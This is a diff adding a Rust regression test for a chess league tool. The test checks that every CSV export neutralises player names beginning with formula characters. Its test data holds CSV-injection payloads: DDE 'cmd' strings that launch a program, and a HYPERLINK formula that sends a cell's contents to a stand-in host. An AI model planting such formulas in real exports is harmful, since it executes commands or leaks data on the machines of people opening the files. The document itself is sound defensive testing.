@@ -80,3 +80,124 @@ fn site_after_a_killed_first_run_is_written_not_refused() {
     assert!(t.path("site/index.html").is_file());
     assert!(!t.path("site/.league-staging").exists());
 }
+
+const EV: [&str; 4] = ["--event", "Winter Swiss", "--section", "1600+"];
+
+fn with_ev<'a>(head: &[&'a str]) -> Vec<&'a str> {
+    head.iter().chain(EV.iter()).copied().collect()
+}
+
+/// The formula payloads of item 2, as players' names; those a name
+/// argument can no longer hold (a tab, a carriage return) were stored
+/// before the rule.
+const PAYLOADS: [&str; 6] = [
+    "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+];
+
+/// A league whose 1600+ section's six players carry the payloads as names,
+/// with round 1 recorded.
+fn formula_league() -> TestLeague {
+    let t = TestLeague::small();
+    t.write(
+        "r1.csv",
+        "board,white,black,result\n1,Alice,Bob,1-0\n2,Carol,Dan,½-½\n3,Eve,Frank,0-1\n",
+    );
+    let mut a = with_ev(&["round", "record"]);
+    a.extend(["--round", "1", "r1.csv"]);
+    t.ok(&a);
+    let conn = t.conn();
+    for (old, new) in [
+        "Alice Smith",
+        "Bob Jones",
+        "Carol King",
+        "Dan Wu",
+        "Eve Park",
+        "Frank Moss",
+    ]
+    .iter()
+    .zip(PAYLOADS)
+    {
+        conn.execute("UPDATE player SET name = ?1 WHERE name = ?2", [new, old])
+            .unwrap();
+    }
+    t
+}
+
+/// Every CSV a league command writes, by name.
+fn every_csv(t: &TestLeague, raw: bool) -> Vec<(&'static str, String)> {
+    let mut runs: Vec<(&'static str, Vec<&str>)> = vec![
+        ("player list", vec!["player", "list", "--format", "csv"]),
+        ("export standings", with_ev(&["export", "standings"])),
+        (
+            "export games",
+            vec!["export", "games", "--event", "Winter Swiss"],
+        ),
+        ("standings", with_ev(&["standings", "--format", "csv"])),
+        ("crosstable", with_ev(&["crosstable", "--format", "csv"])),
+        (
+            "sql",
+            vec![
+                "sql",
+                "SELECT name FROM player ORDER BY name",
+                "--format",
+                "csv",
+            ],
+        ),
+    ];
+    runs.iter_mut()
+        .map(|(what, args)| {
+            if raw {
+                args.push("--raw");
+            }
+            (*what, t.ok(args))
+        })
+        .collect()
+}
+
+/// Item 2: a name beginning with =, +, -, @, a tab or a carriage return was
+/// written verbatim into every CSV, where a spreadsheet runs it.
+#[test]
+fn csv_output_never_starts_a_cell_with_a_formula() {
+    let t = formula_league();
+    for (what, csv) in every_csv(&t, false) {
+        let cells: Vec<String> = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .flexible(true)
+            .from_reader(csv.as_bytes())
+            .records()
+            .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
+            .collect();
+        for payload in PAYLOADS {
+            // Standings and the crosstable use the name as written.
+            assert!(
+                cells.iter().any(|c| *c == format!("'{payload}")),
+                "{what}: no '{payload:?} in\n{csv}"
+            );
+            assert!(
+                !cells.iter().any(|c| c == payload),
+                "{what}: raw {payload:?}"
+            );
+        }
+        for c in &cells {
+            let risky = c.starts_with(['=', '+', '-', '@', '\t', '\r']);
+            let number = c.trim_start_matches(['-', '+']).parse::<f64>().is_ok();
+            assert!(
+                !risky || number,
+                "{what}: cell {c:?} would run in a spreadsheet"
+            );
+        }
+    }
+    // --raw: exactly as stored.
+    for (what, csv) in every_csv(&t, true) {
+        assert!(csv.contains("@SUM(1+9)"), "{what}");
+        assert!(
+            !csv.contains("'@SUM"),
+            "{what}: --raw still prefixed\n{csv}"
+        );
+    }
+}
